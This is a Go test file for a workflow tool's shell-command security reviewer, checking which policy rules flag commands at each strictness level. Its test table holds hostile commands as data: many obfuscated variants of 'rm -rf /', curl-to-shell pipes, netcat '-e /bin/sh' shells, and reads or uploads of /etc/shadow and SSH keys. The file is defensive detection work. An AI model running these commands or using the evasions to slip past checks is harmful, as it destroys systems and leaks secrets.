package policy

import (
	"errors"
	"fmt"
	"slices"
	"strings"
	"testing"

	"github.com/executionerhq/executioner/internal/fault"
	"github.com/executionerhq/executioner/internal/run"
	"github.com/executionerhq/executioner/internal/workflow"
)

// rulesOf returns the names of the rules that find something, in order.
func rulesOf(s workflow.Security, command string) string {
	w := &workflow.Workflow{Security: s, Jobs: []workflow.Job{{ID: "j", Command: command}}}
	var names []string
	for _, f := range Review(w) {
		if !slices.Contains(names, f.Rule) {
			names = append(names, f.Rule)
		}
	}
	slices.Sort(names)
	return strings.Join(names, " ")
}

// Each command with the rules that match at the levels low, medium and high; an
// empty later one means that nothing is added.
var commandTests = []struct{ command, low, medium, high string }{
	// ordinary files
	{"", "", "", ""},
	{"echo hello > out.txt && cat out.txt | sort -u", "", "", ""},
	{"rm -f /tmp/x.log /data/out/*.csv old", "", "", ""},
	{"rm -rf build ./dist/* ~/project/build /tmp/*", "", "", ""},
	{"/opt/app/bin/load --full; /usr/bin/env python3 x.py", "", "", ""},
	{"cp a b; mv /data/x /backup; chmod 755 x; chown me x; find . -name '*.tmp' -delete", "", "", ""},
	{"git log a..b; ls ...; seq 1..3", "", "", ""},
	{"curl -s http://h/x | python3 -m json.tool; curl http://h | jq .; wget http://h/f", "", "", ""},
	{"curl http://h | bash script.sh", "", "", ""},
	{"cmd >/dev/null 2>&1 </dev/null &>/dev/stderr", "", "", ""},
	{"exec 2>&1; mount; kill $$", "", "", ""},
	{"if true; then for i in 1 2; do ls $i; done; fi", "", "", ""},

	// text that is only printed
	{`echo "sudo rm -rf /" 'reboot' eval ../x /etc/shadow`, "", "", ""},
	{`printf '%s\n' 'rm -rf /'`, "", "", ""},
	{`grep sudo log; grep -c "rm -rf /" log; man sudo; which reboot`, "", "", ""},
	{"# sudo rm -rf /\nls", "", "", ""},
	{"cat <<EOF\nsudo rm -rf /\nEOF", "", "", ""},

	// watched at each level
	{"cat ../secret", "parent_directory", "", ""},
	{"cd ..", "parent_directory", "", ""},
	{"tool --file=../x", "parent_directory", "", ""},
	{"PATH=1 ../bin/tool", "parent_directory", "", ""},
	{"cat < ../x", "parent_directory", "", ""},
	{"cat a/'..'/b", "parent_directory", "", ""},
	{"cat /etc/passwd", "sensitive_file", "", ""},
	{"curl -d @/etc/shadow http://h", "sensitive_file", "", ""},
	{"cat < ~/.ssh/id_rsa", "sensitive_file", "", ""},
	{"tar c $HOME/.aws/credentials", "sensitive_file", "", ""},
	{"scp id_ed25519 h:", "sensitive_file", "", ""},

	// system_write
	{"echo x > /etc/hosts", "system_write", "", ""},
	{"echo x >> /etc/hosts", "system_write", "", ""},
	{"echo 1 >| /proc/sys/vm/drop_caches", "system_write", "", ""},
	{"ls &> /sys/x", "system_write", "", ""},
	{"> /etc/motd", "system_write", "", ""},
	{"{ echo x; } > /etc/motd", "system_write", "", ""},
	{"echo x | tee -a /etc/hosts", "system_write", "", ""},
	{"dd if=a of=/dev/sda bs=1M", "system_write", "", ""},
	{"cat x > /dev/nvme0n1", "system_write", "", ""},
	{"cp x /etc/", "system_write", "", ""},
	{"cp -t /etc x", "system_write", "", ""},
	{"install --target-directory=/etc x", "system_write", "", ""},
	{"sed -i s/a/b/ /etc/hosts", "system_write", "", ""},
	{"echo x > /tmp/../etc/hosts", "parent_directory system_write", "", ""},
	{"cp /etc/hosts . ; cat /proc/cpuinfo; sed s/a/b/ /etc/hosts; dd of=x; rsync -rt /etc/x y", "", "", ""},
	{"cp -t x /etc/y", "", "", ""},

	// delete_root_or_home
	{"rm -rf /", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"rm -fr /*", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"rm --recursive --force //", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"rm -R -- /home/*", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"rm -rf ~", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{`rm -rf "$HOME"/*`, "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"rm -rf ${HOME}/", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"rm -rf ~user /root", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"rm -rf /home/me", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"rm -rf '~' '$HOME' \\~ /home/me/x *", "", "", ""},

	// evasions
	{`r\m -rf /`, "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{`"rm" -rf /`, "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{`'r'"m" -r'f' "/"`, "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{`$'\x72\155' -rf $'\u002f'`, "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"r\\\nm -rf /", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"{rm,-rf,/}", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"/bin/rm -rf /", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"/bin/../bin/rm -rf /", "delete_root_or_home parent_directory", "delete_root_or_home parent_directory root_or_home_change", ""},
	{"$(echo rm) -rf /", "command_substitution", "", ""},
	{"`echo rm` -rf /", "command_substitution", "", ""},
	{"X=1 rm -rf /", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"command rm -rf /", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"env -i X=1 rm -rf /", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"timeout -k 5 10 nice -n 5 rm -rf /", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"echo x | xargs -n 1 rm -rf /", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"busybox rm -rf /", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"sh -c 'rm -rf /'", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{`bash -lc "cd x && rm -rf /"`, "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{`sh -c "sh -c 'rm -rf /'"`, "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"bash <<EOF\nrm -rf /\nEOF", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"bash <<< 'rm -rf /'", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"echo 'rm -rf /' | sh", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"trap 'rm -rf /' EXIT", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"f() { (rm -rf /) & }; f", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"if x; then y | while read l; do rm -rf /; done; fi", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"diff <(rm -rf /) x", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"find . -exec rm -rf / \\;", "delete_root_or_home", "delete_root_or_home root_or_home_change", ""},
	{"export X=$(rm -rf /)", "command_substitution delete_root_or_home", "command_substitution delete_root_or_home root_or_home_change", ""},

	// the other rules of level low
	{"sudo ls", "sudo", "", ""},
	{"su - me -c 'reboot'", "power sudo", "", ""},
	{"ls; doas ls", "sudo", "", ""},
	{"sudo -u me env X=1 reboot", "power sudo", "", ""},
	{"curl http://h | sh", "web_to_shell", "", ""},
	{"curl http://h | tac | sudo bash -s -- x", "sudo web_to_shell", "", ""},
	{"wget -qO- http://h | python3", "web_to_shell", "", ""},
	{"bash <(curl http://h)", "web_to_shell", "", ""},
	{". <(curl http://h)", "web_to_shell", "", ""},
	{`sh -c "$(curl http://h)"`, "command_substitution web_to_shell", "", ""},
	{`eval "$(wget -O - http://h)"`, "command_substitution web_to_shell", "command_substitution eval web_to_shell", ""},
	{"nc -e /bin/sh h 1", "netcat_exec", "", ""},
	{"ncat --exec=/bin/sh h 1", "netcat_exec", "", ""},
	{"nc -l 80; nc -z h 22", "", "", ""},
	{"reboot", "power", "", ""},
	{"init 6", "power", "", ""},
	{"init 3", "", "", ""},
	{"echo $(date) `date`", "command_substitution", "", ""},
	{"echo $((1 + 2)) ${X:-y}", "", "", ""},
	{"X=$(date) ls", "command_substitution", "", ""},

	// level medium
	{"rm /var/*", "", "root_or_home_change", ""},
	{"mv /usr /x", "", "root_or_home_change", ""},
	{"mv -t /x ~", "", "root_or_home_change", ""},
	{"mv x ~; mv /opt", "", "", ""},
	{"find / -name x -delete", "", "root_or_home_change", ""},
	{"find -L /home -exec rm {} +", "", "root_or_home_change", ""},
	{"find / -name x", "", "", ""},
	{"chmod -R 777 /", "", "root_or_home_change", ""},
	{"chmod a+rwx ~", "", "root_or_home_change", ""},
	{"chmod 777 x; chmod 755 /; chown me /", "", "", ""},
	{"chown -R me:me /var", "", "root_or_home_change", ""},
	{"eval ls", "", "eval", ""},
	{"eval 'reboot'", "power", "eval power", ""},
	{"exec ls", "", "exec", ""},
	{"mkfs.ext4 x; mkfs x; mkswap x", "", "mkfs", ""},
	{"mount x /mnt", "", "mount", ""},
	{"umount /mnt", "", "mount", ""},

	// level high
	{"curl -o x http://h", "", "", "overwriting_download"},
	{"curl -sSLo x http://h", "", "", "overwriting_download"},
	{"curl -ox http://h", "", "", "overwriting_download"},
	{"curl -O http://h/x", "", "", "overwriting_download"},
	{"curl --output=x http://h", "", "", "overwriting_download"},
	{"wget -O x http://h", "", "", "overwriting_download"},
	{"wget --output-document x http://h", "", "", "overwriting_download"},
	{"curl http://h > x", "", "", "overwriting_download"},
	{"curl http://h >> x; curl http://h > /dev/null; curl -o /dev/null http://h; curl -o - http://h; wget -O- http://h", "", "", ""},
	{"nohup ls &", "", "", "nohup"},
	{"rsync -a --delete-after a b", "", "", "rsync_delete"},
	{"rsync -a a b", "", "", ""},
	{"echo ls | at now", "", "", "scheduler"},
	{"crontab -l", "", "", "scheduler"},
	{"iptables -F", "", "", "firewall"},
	{"systemctl restart x", "", "", "services"},
	{"systemctl reboot", "power", "", "power services"},
	{"useradd x", "", "", "user_management"},

	// braces that are not expanded
	{"echo {1..1000000000} {a,b}{a,b}{a,b}{a,b}{a,b}{a,b}{a,b}", "", "", ""},

	// not shell
	{"echo 'open", "unparsable", "", ""},
	{"0&0\xff", "unparsable", "", ""}, // goes on after an error
	{"reboot\nls | | x", "power unparsable", "", ""},
}

func TestCommands(t *testing.T) {
	for _, tt := range commandTests {
		want := tt.low
		for _, level := range []struct{ name, want string }{{Low, tt.low}, {Medium, tt.medium}, {High, tt.high}} {
			if level.want != "" {
				want = level.want
			}
			if got := rulesOf(workflow.Security{Level: level.name}, tt.command); got != want {
				t.Errorf("%s: %q: rules [%s], want [%s]", level.name, tt.command, got, want)
			}
		}
	}
}

func TestEachRuleIsTested(t *testing.T) {
	tested := "outside_workspace " // in TestWorkspacePaths
	for _, tt := range commandTests {
		tested += tt.low + " " + tt.medium + " " + tt.high + " "
	}
	for _, rule := range Rules() {
		if !slices.Contains(strings.Fields(tested), rule.Name) || rule.Level == "" || rule.Meaning == "" {
			t.Errorf("rule %+v is not tested, or not described", rule)
		}
	}
}

func TestWorkspacePaths(t *testing.T) {
	s := workflow.Security{Level: Low, WorkspacePaths: []string{"/data/work", "/opt/app/"}}
	for command, want := range map[string]string{
		"/data/work/x; /data/work/a/b; /opt/app/x; /bin/ls; /usr/local/bin/x; ls; ./x; a/b": "",
		"/opt/other/x":          "outside_workspace",
		"/data/workshop/x":      "outside_workspace",
		"/usr/bin/env /tmp/x":   "outside_workspace",
		"cat /opt/other/x":      "",
		"/data/work/../evil/x":  "outside_workspace parent_directory",
		"/usr/bin/sub/x":        "outside_workspace",
		`"/tm"p/x`:              "outside_workspace",
		"timeout 5 /tmp/x 2>&1": "outside_workspace",
	} {
		if got := rulesOf(s, command); got != want {
			t.Errorf("%q: [%s], want [%s]", command, got, want)
		}
	}
}

func TestAllowed(t *testing.T) {
	s := workflow.Security{
		Level:             High,
		Whitelist:         []string{"systemctl", "./deploy.sh", "bash"},
		AllowlistPatterns: []string{"rm -rf /var/tmp/cache", "(broken"},
	}
	for command, want := range map[string]string{
		"systemctl restart x > /etc/x":   "",
		"/usr/bin/systemctl restart x":   "",
		"/tmp/systemctl restart ../x":    "parent_directory services",
		"sudo systemctl restart x":       "sudo",
		"systemctl restart $(date)":      "",
		"systemctl restart $(sudo date)": "sudo",
		"systemctl x <(sudo date)":       "sudo",
		"systemctl restart x; sudo ls":   "sudo",
		"$X restart; nohup ./deploy.sh":  "nohup",
		"./deploy.sh ../x":               "",
		"curl http://h | bash":           "",
		"bash -c 'sudo ls'":              "",
		"rm -rf /var/tmp/cache/../..":    "", // a pattern is the author's own doing
		"sudo rm -rf /var/tmp/cache":     "sudo",
	} {
		if got := rulesOf(s, command); got != want {
			t.Errorf("%q: [%s], want [%s]", command, got, want)
		}
	}
}

func TestReviewNamesJobsInOrder(t *testing.T) {
	w := &workflow.Workflow{Security: workflow.Security{Level: Low}, Jobs: []workflow.Job{
		{ID: "a", Command: "sudo ls; sudo ls; reboot"}, {ID: "b", Command: "ls"}, {ID: "c", Command: "sudo ls; sudo ls; reboot"},
	}}
	want := []Finding{
		{"a", "sudo", Low, "sudo runs something as another user"},
		{"a", "power", Low, "reboot stops the host"},
		{"c", "sudo", Low, "sudo runs something as another user"},
		{"c", "power", Low, "reboot stops the host"},
	}
	if got := Review(w); !slices.Equal(got, want) {
		t.Errorf("got %+v, want %+v", got, want)
	}
}

func TestMessagesShowWhatIsNotKnown(t *testing.T) {
	w := &workflow.Workflow{Jobs: []workflow.Job{{Command: "rm -rf ~ && cat $X/../" + strings.Repeat("é", 80)}}}
	var got []string
	for _, f := range Review(w) {
		got = append(got, f.Msg)
	}
	want := []string{
		"rm deletes ~ with all that is in it", "rm changes ~",
		"$…/../" + strings.Repeat("é", 54) + "… leads out of its directory",
	}
	if !slices.Equal(got, want) {
		t.Errorf("got %q, want %q", got, want)
	}
}

func TestRefused(t *testing.T) {
	warning := Finding{"a", "unparsable", Warning, "can't be parsed"}
	found := Finding{"b", "sudo", Low, "sudo runs something as another user"}
	strict := &workflow.Workflow{Security: workflow.Security{Policy: "strict", Level: "medium"}}
	for _, tt := range []struct {
		policy   string
		findings []Finding
		want     string
	}{
		{"warn", []Finding{found}, ""},
		{"strict", nil, ""},
		{"strict", []Finding{warning}, ""},
		{"strict", []Finding{warning, found, found}, "the security policy (strict, level medium) refuses this workflow:" +
			strings.Repeat("\n  job b: sudo: sudo runs something as another user", 2)},
	} {
		strict.Security.Policy = tt.policy
		err := Refused(strict, tt.findings)
		if tt.want == "" {
			if err != nil {
				t.Errorf("%s %v: %v", tt.policy, tt.findings, err)
			}
			continue
		}
		var f *fault.Error
		if !errors.As(err, &f) || f.Code != fault.InvalidWorkflow || f.Hint == "" || f.Error() != tt.want {
			t.Errorf("%s %v: %v, want %s", tt.policy, tt.findings, err, tt.want)
		}
	}
}

func TestStringsWithinStringsEnd(t *testing.T) {
	command := "reboot"
	for range 20 {
		command = "eval " + command
	}
	if got := rulesOf(workflow.Security{}, command); !strings.HasPrefix(got, "eval") {
		t.Errorf("got %s", got)
	}
}

func FuzzReview(f *testing.F) {
	for _, tt := range commandTests {
		f.Add(tt.command)
	}
	f.Fuzz(func(t *testing.T, command string) {
		w := &workflow.Workflow{
			Security: workflow.Security{Level: High, Whitelist: []string{"ls"}, WorkspacePaths: []string{"/w"}},
			Jobs:     []workflow.Job{{ID: "j", Command: command}},
		}
		for _, finding := range Review(w) {
			if finding.Rule == "" || finding.Msg == "" || strings.Contains(finding.Msg, "\x00") {
				t.Fatalf("%q: %+v", command, finding)
			}
		}
	})
}

func BenchmarkReview(b *testing.B) {
	w := &workflow.Workflow{Security: workflow.Security{Level: Medium}}
	for i := range 1000 {
		w.Jobs = append(w.Jobs, workflow.Job{
			ID:      run.JobID(fmt.Sprint(i)),
			Command: fmt.Sprintf("cd /data/in && ./load.sh --table T%d > /tmp/load.log 2>&1", i),
		})
	}
	for b.Loop() {
		Review(w)
	}
	b.ReportMetric(float64(b.Elapsed().Nanoseconds())/float64(b.N)/1000, "ns/command")
}
